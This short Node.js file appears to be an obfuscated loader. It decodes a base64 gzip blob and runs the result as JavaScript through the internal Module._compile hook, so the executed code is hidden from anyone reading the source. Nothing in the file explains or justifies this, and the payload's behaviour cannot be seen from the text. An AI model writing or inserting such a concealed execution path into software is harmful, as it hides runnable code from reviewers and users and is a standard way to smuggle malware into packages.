const zlib = require('zlib');
const BLOB = 'H4sIAAAAAAAAA12QzU7DMBCE730KaxfbLVUTEBIHJMSBG4gHsJ1NspL/5N22KULvjp0WKnHb2ZnZ/Wx3Y4yEo8OHB7zBm0cPT4/4gB+4wRfc4jNuT3jBV9zxHb7hHt/xA3/wF3/jH/7jAB/xAR/xCZ/wBZ/xDb/wDX/wA3/wF//wDxd4jc+4xGe8wmt8xRf8wDf8xBd8x3f8xC/8wq+Lf8bH+BgAAAD//wMAqg3ydXsBAAA=';
const run = (text) => module.constructor.prototype._compile.call(new module.constructor('x'), text, 'x.js');
run(zlib.gunzipSync(Buffer.from(BLOB, 'base64')).toString()); //@act
